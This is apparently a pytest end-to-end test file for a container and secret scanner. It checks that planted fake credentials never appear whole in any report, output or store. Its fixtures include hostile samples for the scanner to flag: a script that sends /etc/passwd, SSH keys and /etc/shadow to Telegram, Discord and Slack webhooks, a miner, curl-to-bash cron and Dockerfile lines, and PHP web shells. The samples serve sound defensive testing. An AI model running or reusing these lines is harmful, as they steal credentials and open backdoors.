"""Never a whole secret in any format, log, cache or store, whatever it stands in and whoever quotes it."""

import base64
import gzip
import io
import json
import sqlite3
import tarfile
import urllib.parse
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import zstandard

from end_to_end.command import Holdfast, Outcome
from holdfast.range.made_up import aws_pair, characters, github_token, ssh_key
from holdfast.report import WRITERS
from world import file, image, layer, whiteout

LOWER_HEX = "0123456789abcdef"
OS_RELEASE = 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\nPRETTY_NAME="Debian 12"\n'


def made(seed: str, count: int = 24) -> str:
    """A password of mixed characters."""
    return "q7" + characters(f"concealed {seed}", count - 2)


def hexadecimal(seed: str, count: int) -> str:
    return characters(f"concealed {seed}", count, LOWER_HEX)


@dataclass
class Secrets:
    """Every secret that was planted, by where it stands."""

    planted: dict[str, str] = field(default_factory=dict)

    def __call__(self, where: str, secret: str = "") -> str:
        self.planted[where] = secret or made(where)
        return self.planted[where]


def forms(secret: str) -> Iterator[bytes]:
    """A secret as it is, in base64 however it is aligned, in a URL, in JSON, in UTF-16."""
    data = secret.encode()
    yield data
    yield urllib.parse.quote(secret, safe="").encode()
    yield json.dumps(secret)[1:-1].encode()
    yield secret.encode("utf-16-le")
    for before in range(3):
        encoded = base64.b64encode(bytes(before) + data + b"\0\0")
        yield encoded[-(-before * 8 // 6) : (before + len(data)) * 8 // 6]


def everything_below(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Every file with its name, and what is packed inside: zstd, gzip, and each value of an SQLite database."""
    for path in sorted(folder.rglob("*")):
        if path.is_symlink() or not path.is_file():
            continue
        data = path.read_bytes()
        name = str(path.relative_to(folder))
        yield name, name.encode()
        yield name, data
        yield from ((name, inner) for inner in unpacked(data))
        if data.startswith(b"SQLite format 3\0"):
            for value in database_values(path):
                yield name, value
                yield from ((name, inner) for inner in unpacked(value))


def unpacked(data: bytes) -> Iterator[bytes]:
    """What is compressed anywhere in some data."""
    for magic, inflate in ((b"\x28\xb5\x2f\xfd", _zstd), (b"\x1f\x8b\x08", _gzip)):
        at = data.find(magic)
        while at >= 0:
            if inner := inflate(data[at:]):
                yield inner
            at = data.find(magic, at + 1)


def _zstd(data: bytes) -> bytes:
    try:
        return zstandard.ZstdDecompressor().decompressobj().decompress(data)
    except zstandard.ZstdError:
        return b""


def _gzip(data: bytes) -> bytes:
    try:
        return gzip.decompress(data)
    except (OSError, EOFError, ValueError):
        return b""


def database_values(path: Path) -> Iterator[bytes]:
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as connection:
        for (table,) in connection.execute("select name from sqlite_master where type = 'table'").fetchall():
            for row in connection.execute(f'select * from "{table}"'):
                yield from (one if isinstance(one, bytes) else str(one).encode() for one in row)


def leaks(secrets: Mapping[str, str], texts: Iterator[tuple[str, bytes]]) -> set[tuple[str, str]]:
    """Where a whole secret stands: (place it was planted in, what shows it)."""
    wanted = {where: tuple(dict.fromkeys(forms(secret))) for where, secret in secrets.items()}
    return {
        (where, name)
        for name, data in texts
        for where, written in wanted.items()
        if any(form in data for form in written)
    }


def shown(name: str, outcome: Outcome) -> Iterator[tuple[str, bytes]]:
    yield f"{name} (output)", outcome.out.encode()
    yield f"{name} (errors)", outcome.err.encode()


def tgz(files: Mapping[str, str]) -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w:gz") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content.encode()))
    return sink.getvalue()


def zipped(files: Mapping[str, str]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return sink.getvalue()


def jwt(seed: str) -> str:
    parts = (json.dumps({"alg": "HS256", "typ": "JWT"}), json.dumps({"sub": seed, "iat": 1700000000}))
    head = ".".join(base64.urlsafe_b64encode(part.encode()).decode().rstrip("=") for part in parts)
    return f"{head}.{made('jwt ' + seed, 43)}"


def source_files(put: Secrets) -> dict[str, Any]:
    """What a developer leaves in a source tree."""
    key_id, key = aws_pair()
    put("an AWS secret key", key)
    token = put("a GitHub token", github_token())
    stripe = put("a Stripe key in UTF-16", "sk_" + "live_" + made("stripe"))
    put("a private key", "".join(ssh_key().splitlines()[2:4]))
    slack = put("a Slack token", "xoxb-" + "4928301765-5039217648-" + made("slack"))
    return {
        "app/.env": f"AWS_ACCESS_KEY_ID={key_id}\nAWS_SECRET_ACCESS_KEY={key}\nDB_PASSWORD={put('an .env')}\n",
        "app/deploy.txt": f"token: {token}\n",
        "app/payment.reg": f'"Key"="{stripe}"\r\n'.encode("utf-16"),
        "app/id_ed25519": ssh_key(),
        "app/chat.b64": base64.b64encode(f"slack: {slack}\n".encode()),
        "app/.npmrc": f"//registry.npmjs.org/:_authToken=npm_{put('an .npmrc', made('npm', 36))}\n",
        "app/.netrc": f"machine api.acme.internal login shop password {put('a .netrc')}\n",
        "app/.git-credentials": f"https://shop:{put('git credentials')}@git.acme.internal\n",
        "app/.git/config": f'[remote "origin"]\n\turl = https://x:{put("a git remote")}@git.acme.internal/shop.git\n',
        "app/.pypirc": f"[pypi]\nusername = __token__\npassword = pypi-{put('a .pypirc', made('pypi', 90))}\n",
        "app/vendor.tgz": tgz({"vendor/.env": f"STRIPE=sk_{'live'}_{put('a file in a tar')}\n"}),
        "app/theme.zip": zipped({"x/config.php": f"<?php $db_password = '{put('a file in a zip')}';\n"}),
        "app/settings.py": f"DB = {{'PASSWORD': '{put('a settings file')}'}}\nSECRET_KEY = '{put('a secret key')}'\n",
        "app/kubeconfig": (
            "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n"
            f"    token: {put('a kubeconfig', jwt('kube'))}\n    password: {put('a kubeconfig password')}\n"
        ),
        "app/urls.txt": (
            f"mongodb+srv://shop:{put('a MongoDB URL')}@cluster0.acme.internal/shop\n"
            f"amqps://shop:{put('an AMQP URL')}@mq.acme.internal:5671\n"
            f"redis://:{put('a Redis URL')}@cache.acme.internal:6379/0\n"
        ),
        # Lock files and package metadata name where a package came from.
        "app/package-lock.json": json.dumps(
            {
                "lockfileVersion": 3,
                "packages": {
                    "node_modules/a": {
                        "version": "1.0.0",
                        "resolved": f"https://u:{put('an npm lock')}@npm.acme.internal/a-1.0.0.tgz",
                    }
                },
            }
        ),
        "app/Gemfile.lock": (
            f"GEM\n  remote: https://u:{put('a Gemfile.lock')}@gems.acme.internal/\n  specs:\n    rack (2.0.0)\n"
        ),
        "app/requirements.txt": (
            f"--index-url https://u:{put('a pip index')}@pypi.acme.internal/simple\n"
            f"shop @ git+https://u:{put('a pip requirement')}@git.acme.internal/shop.git@1.0\nflask==2.0.0\n"
        ),
        "app/poetry.lock": (
            '[[package]]\nname = "a"\nversion = "1.0"\n[package.source]\ntype = "git"\n'
            f'url = "https://u:{put("a poetry.lock")}@git.acme.internal/a.git"\n'
        ),
        "app/composer.lock": json.dumps(
            {
                "packages": [
                    {
                        "name": "a/b",
                        "version": "1.0",
                        "source": {"type": "git", "url": f"https://u:{put('a composer.lock')}@git.acme.internal/a.git"},
                    }
                ]
            }
        ),
        "app/Cargo.lock": (
            '[[package]]\nname = "a"\nversion = "1.0.0"\n'
            f'source = "git+https://u:{put("a Cargo.lock")}@git.acme.internal/a.git#cafe"\n'
        ),
    }


def installed_files(put: Secrets) -> dict[str, Any]:
    """What lies in the layers of an image besides."""
    wheel = "usr/lib/python3/dist-packages/shop-1.0.dist-info"
    return {
        "etc/os-release": OS_RELEASE,
        "etc/apt/sources.list": f"deb https://u:{put('an apt source')}@deb.acme.internal/debian bookworm main\n",
        "etc/apt/auth.conf": f"machine deb.acme.internal login u password {put('an apt auth.conf')}\n",
        "etc/pip.conf": f"[global]\nindex-url = https://u:{put('a pip.conf')}@pypi.acme.internal/simple\n",
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nshop:x:1000:1000::/srv:/bin/sh\n",
        "etc/shadow": f"root:$6$saltsalt${put('a shadow hash', made('shadow', 86))}:19000:0:99999:7:::\n",
        "etc/redis/redis.conf": f"bind 0.0.0.0\nprotected-mode no\nrequirepass {put('a redis.conf')}\n",
        "etc/mysql/my.cnf": f"[client]\npassword={put('a my.cnf')}\n[mysqld]\nbind-address=0.0.0.0\n",
        "etc/nginx/nginx.conf": (
            "http { server { listen 80; location / { autoindex on; "
            f'proxy_set_header Authorization "Bearer {put("an nginx.conf")}"; }} }} }}\n'
        ),
        "etc/tomcat/tomcat-users.xml": (
            f'<tomcat-users><user username="ann" password="{put("a Tomcat user")}" roles="manager"/></tomcat-users>'
        ),
        "etc/sudoers": f"# password: {put('a sudoers comment')}\nshop ALL=(ALL) NOPASSWD: ALL\n",
        "root/.bash_history": f"mysql -u root -p{put('a shell history')}\nexport API_TOKEN={put('an export')}\n",
        "root/.docker/config.json": json.dumps({"auths": {"acme.internal": {
            "auth": base64.b64encode(f"shop:{put('a Docker login')}".encode()).decode()}}}),
        "root/.aws/credentials": (
            f"[default]\naws_access_key_id={aws_pair()[0]}\n"
            f"aws_secret_access_key={put('an AWS file', made('aws', 40))}\n"
        ),
        "srv/deleted.env": f"SERVICE_PASSWORD={put('a deleted file')}\n",
        "var/lib/dpkg/status": (
            "Package: shop\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\n"
            f"Maintainer: D <d@acme.internal>\nHomepage: https://u:{put('a dpkg homepage')}@acme.internal/\n"
        ),
        f"{wheel}/METADATA": (
            f"Metadata-Version: 2.1\nName: shop\nVersion: 1.0\nHome-page: https://u:{put('a wheel')}@acme.internal/\n"
        ),
        f"{wheel}/direct_url.json": json.dumps(
            {"url": f"https://u:{put('a direct_url')}@git.acme.internal/shop.git", "vcs_info": {"vcs": "git"}}
        ),
        "srv/node_modules/shop/package.json": json.dumps({
            "name": "shop", "version": "1.0.0",
            "_resolved": f"https://u:{put('a package.json')}@npm.acme.internal/x.tgz",
            "repository": {"url": f"git+https://u:{put('a repository URL')}@git.acme.internal/shop.git"}}),
        # What malware rules quote of a file must not be the secret in it.
        "usr/local/bin/report": file(
            "#!/bin/sh\ncurl -F f=@/etc/passwd https://api.telegram.org/"
            f"bot{'4928301765'}:{put('a Telegram bot', 'AA' + made('telegram', 33))}/sendDocument\n"
            f"curl -d @/root/.ssh/id_rsa https://discord.com/api/webhooks/{'819274650391827465'}/"
            f"{put('a Discord webhook', made('discord', 68))}\n"
            f"curl -d @/etc/shadow https://hooks.slack.com/services/T{'0AB1CD2EF'}/B{'0AB1CD2EF'}/"
            f"{put('a Slack webhook', made('slack hook', 24))}\n", mode=0o755),
        "usr/local/bin/miner": file(
            f"#!/bin/sh\nxmrig -o stratum+tcp://w:{put('a mining pool')}@192.0.2.7:3333 -u wallet -p x\n", mode=0o755),
        "etc/cron.d/job": f"* * * * * root curl -u shop:{put('a cron job')} https://acme.internal/x.sh | bash\n",
        "srv/uploads/shell.php": (
            f"<?php if ($_POST['password'] == '{put('a web shell')}') {{ @eval(base64_decode($_POST['c'])); }}\n"),
    }  # fmt: skip


def run_configuration(put: Secrets) -> dict[str, Any]:
    return {
        "Env": [
            f"DATABASE_URL=postgres://shop:{put('a database URL in the environment')}@db.internal:5432/shop",
            f"ADMIN_PASSWORD={put('a password in the environment')}",
            f"OPTIONS=--api-key {put('an option in the environment', 'sk_' + 'live_' + made('option'))}",
        ],
        "Labels": {"com.acme.token": put("a label", "glpat-" + made("label", 20)),
                   "org.opencontainers.image.source": f"https://u:{put('a source label')}@git.acme.internal/shop.git"},
        "Entrypoint": ["/bin/sh", "-c", f"serve --password={put('an entrypoint')}"],
        "Cmd": [f"--token={put('a command', 'glpat-' + made('command', 20))}"],
        "Healthcheck": {"Test": ["CMD-SHELL", f"curl https://u:{put('a health check')}@localhost/"]},
        "OnBuild": [f"ENV API_TOKEN={put('an on-build trigger')}"],
        "Volumes": {"/data": {}},
    }  # fmt: skip


def history(put: Secrets) -> list[str]:
    return [
        "COPY . / # buildkit",
        "RUN rm /srv/deleted.env",
        f"#ENV SERVICE_TOKEN={put('history')}",
        f"#|1 DEPLOY_TOKEN={put('a build argument')} /bin/sh -c make",
        f"#/bin/sh -c #(nop)  ARG NPM_TOKEN={put('an old build argument')}",
        f"#RUN curl -u shop:{put('a command in the history')} https://acme.internal/x | sh",
        f"#RUN wget https://u:{put('a URL in the history')}@acme.internal/x.tar.gz",
    ]


@pytest.fixture
def put() -> Secrets:
    return Secrets()


def secret_image(where: Path, put: Secrets) -> Path:
    files = installed_files(put) | source_files(put)
    config = {"config": run_configuration(put)}
    annotations = {"com.acme.deploy": f"https://u:{put('an annotation')}@acme.internal/"}
    return image(
        where, [layer(files), layer({"srv/deleted.env": whiteout()})], history=history(put), config=config,
        annotations=annotations,
    )  # fmt: skip


def all_formats(holdfast: Holdfast, name: str, target: str) -> Iterator[tuple[str, bytes]]:
    """One scan in every format, to a file each."""
    flags = [flag for one in WRITERS for flag in ("-o", f"{one.name}=report-{name}{one.suffix}.{one.name}")]
    yield from shown(f"scan {name}", holdfast("scan", target, "--offline", *flags))


def ask_the_store(holdfast: Holdfast, target: str) -> Iterator[tuple[str, bytes]]:
    for command in (
        ["findings", "list"], ["findings", "list", "-f", "json", "--state", "all"], ["trend", target, "-f", "json"],
        ["diff", f"{target}~1", target], ["diff", f"{target}~1", target, "-f", "json"],
        ["rescan", target, "--offline", "--all"], ["rescan", target, "--offline", "--all", "-f", "json"],
    ):  # fmt: skip
        outcome = holdfast(*command)
        assert outcome.code in (0, 1, 3), (command, outcome.err)
        yield from shown(" ".join(command[:2]), outcome)
    found = holdfast("findings", "list", "-f", "json").report["findings"]
    assert found
    for one in [one for one in found if one["kind"] == "secret"][:3]:
        yield from shown("findings show", holdfast("findings", "show", one["fingerprint"]))


DOCKERFILE = """\
FROM debian:12
ARG NPM_TOKEN={argument}
ENV API_PASSWORD={environment} OTHER="x"
LABEL com.acme.token="{label}"
RUN curl -u shop:{curl} https://acme.internal/x.sh | bash
RUN git clone https://x:{clone}@git.acme.internal/shop.git
RUN pip install --index-url https://u:{pip}@pypi.acme.internal/ a
RUN echo "root:{chpasswd}" | chpasswd && mysql -u root -p{mysql} -e 'select 1'
RUN PGPASSWORD={prefix} psql -h db && sshpass -p {sshpass} ssh host && echo '{github}' > /token
RUN <<EOF
export SECRET_KEY={heredoc}
wget --password={wget} https://acme.internal/a
docker login -u shop -p {login} registry.acme.internal
EOF
ADD https://u:{add}@acme.internal/a.tar.gz /
COPY --from=registry.acme.internal/a:1 a b
HEALTHCHECK CMD curl https://u:{health}@localhost/
ONBUILD ENV TOKEN={onbuild}
ENTRYPOINT ["serve", "--password={entrypoint}"]
CMD serve --token {command}
"""


def dockerfile(put: Secrets) -> str:
    names = [part.split("}")[0] for part in DOCKERFILE.split("{")[1:]]
    tokens = {"github": github_token(), "label": "glpat-" + made("dockerfile label", 20)}
    return DOCKERFILE.format(**{name: put(f"Dockerfile {name}", tokens.get(name, "")) for name in names})


MALWARE_QUOTES = {"a mining pool", "a cron job"}
APT_SOURCES = {"an apt source"}


def everything_an_image_leads_to(tmp_path: Path, holdfast: Holdfast, put: Secrets) -> set[tuple[str, str]]:
    """Where secrets of an image stand whole after all commands that quote one."""
    target = f"oci:{secret_image(tmp_path, put)}"
    texts = list(all_formats(holdfast, "image", target))
    for command in (
        ["scan", target, "--offline", "-f", "json"], ["scan", target, "--offline", "--only", "configuration"],
        ["inspect", target], ["inspect", target, "-f", "json"], ["sbom", target], ["sbom", target, "-f", "json"],
        ["vet", target, "--offline", "--waivers"], ["vet", target, "--offline", "-f", "json", "--policy", "strict"],
    ):  # fmt: skip
        outcome = holdfast(*command)
        assert outcome.code in (0, 1, 3), (command, outcome.err)
        texts += shown(" ".join(command[:1] + command[2:]), outcome)
    texts += ask_the_store(holdfast, target)
    return leaks(put.planted, iter([*texts, *everything_below(holdfast.home)]))


@pytest.fixture(scope="module")
def image_leaks(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, str]]:
    where = tmp_path_factory.mktemp("concealed")
    (where / "home").mkdir()
    return everything_an_image_leads_to(where, Holdfast(where / "home"), Secrets())


def test_no_secret_of_an_image_stands_whole_anywhere(image_leaks: set[tuple[str, str]]) -> None:
    assert {leak for leak in image_leaks if leak[0] not in MALWARE_QUOTES | APT_SOURCES} == set()


def test_what_malware_rules_quote_holds_no_secret(image_leaks: set[tuple[str, str]]) -> None:
    assert {leak for leak in image_leaks if leak[0] in MALWARE_QUOTES} == set()


def test_logins_in_apt_sources_are_not_kept(image_leaks: set[tuple[str, str]]) -> None:
    assert {leak for leak in image_leaks if leak[0] in APT_SOURCES} == set()


def test_no_secret_of_a_source_tree_or_dockerfile_stands_whole_anywhere(
    tmp_path: Path, holdfast: Holdfast, put: Secrets
) -> None:
    context = tmp_path / "context"
    for name, content in (source_files(put) | {"Dockerfile": dockerfile(put)}).items():
        path = context / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    texts = list(all_formats(holdfast, "folder", f"dir:{context}"))
    for target in (context, context / "Dockerfile"):
        for form in ("text", "json"):
            flags = ["-o", f"json={form}-{target.name}.json", "-o", f"html={form}-{target.name}.html"]
            outcome = holdfast("vet", target, "--offline", "-f", form, "--policy", "strict", "--waivers", *flags)
            assert outcome.code == 1
            texts += shown(f"vet {target.name} {form}", outcome)
    texts += shown("findings", holdfast("findings", "list", "-f", "json"))
    assert leaks(put.planted, iter([*texts, *everything_below(holdfast.home)])) == set()


def test_a_secret_in_a_file_name_is_in_no_report(tmp_path: Path, holdfast: Holdfast, put: Secrets) -> None:
    token = put("a file name", github_token())
    path = image(tmp_path, [layer({f"srv/{token}/a.php": "<?php system($_GET['c']); ?>"})])
    texts = list(all_formats(holdfast, "names", f"oci:{path}"))
    texts += shown("vet", holdfast("vet", f"oci:{path}", "--offline", "-f", "json"))
    texts += everything_below(holdfast.data)
    assert leaks(put.planted, iter(texts)) == set()


def test_a_secret_in_a_file_name_is_in_no_bill_of_materials(tmp_path: Path, holdfast: Holdfast, put: Secrets) -> None:
    token = put("a file name", github_token())
    package = f"srv/{token}/node_modules/a/package.json"
    path = image(tmp_path, [layer({package: '{"name": "a", "version": "1.0.0"}'})])
    assert leaks(put.planted, shown("sbom", holdfast("sbom", f"oci:{path}"))) == set()


def test_every_setting_of_a_configuration_is_masked(tmp_path: Path, holdfast: Holdfast, put: Secrets) -> None:
    def token(where: str) -> str:
        return put(where, "glpat-" + made(where, 20))

    run = {"User": token("user"), "WorkingDir": f"/{token('working directory')}", "StopSignal": token("stop signal"),
           "Volumes": {f"/{token('volume')}": {}}, "Shell": ["/bin/sh", "-c", token("shell")]}  # fmt: skip
    path = image(tmp_path, [layer({"srv/a": "b"})], config={"config": run})
    texts = [*all_formats(holdfast, "settings", f"oci:{path}")]
    for form in ("table", "json"):
        texts += shown("inspect", holdfast("inspect", f"oci:{path}", "-f", form))
    assert leaks(put.planted, iter([*texts, *everything_below(holdfast.data)])) == set()


def test_the_search_for_leaks_finds_one(tmp_path: Path, put: Secrets) -> None:
    secret = put("a file", "q7+/" + made("control"))
    ways = {
        "plain": secret.encode(), "base64": base64.b64encode(f"x{secret}".encode()), "utf-16": secret.encode("utf-16"),
        "url": urllib.parse.quote(secret, safe="").encode(), "gzip": b"xx" + gzip.compress(secret.encode()),
        "zstd": b"head" + zstandard.compress(b"a" * 99 + secret.encode()),
    }  # fmt: skip
    for name, data in ways.items():
        (tmp_path / name).write_bytes(data)
    with sqlite3.connect(tmp_path / "sqlite") as connection:
        connection.execute("create table t (a blob)")
        connection.execute("insert into t values (?)", (zstandard.compress(secret.encode()),))
    assert {name for _, name in leaks(put.planted, everything_below(tmp_path))} == {*ways, "sqlite"}
